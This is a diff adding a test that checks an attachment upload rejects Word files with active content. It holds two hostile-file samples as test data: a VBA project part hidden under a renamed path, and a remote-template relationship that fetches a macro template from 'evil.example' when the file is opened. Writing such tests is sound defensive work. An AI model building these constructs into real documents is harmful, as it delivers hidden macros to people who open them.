@@ -104,6 +104,21 @@ describe("plan attachments", () => {
     expect(await storedFiles()).toEqual([]);
   });
 
+  it.each([
+    ["a macro-enabled Word document whose VBA part is renamed", "ke-hoach.docx", { "word/data/x.dat": "vba" }, `<Override PartName="/word/data/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>`, ""],
+    ["a Word document with a remote template (fetched on opening)", "bao-cao.docx", {}, "", `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`],
+  ])("refuses %s, read from the package's content types and relationships", async (_, name, parts, override, relationship) => {
+    const { plan, editor } = await setup();
+    const bytes = buildZip({
+      "[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${override}</Types>`,
+      "word/_rels/document.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+      "word/document.xml": "<w:document/>",
+      ...parts,
+    });
+    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name, bytes }))).toEqual({ file: ["file_has_active_content"] });
+    expect(await db.attachment.count()).toBe(0);
+  });
+
   it("refuses a file over 20 MB and an empty one", async () => {
     const { plan, editor } = await setup();
     const big = new Uint8Array(MAX_ATTACHMENT_BYTES + 1);
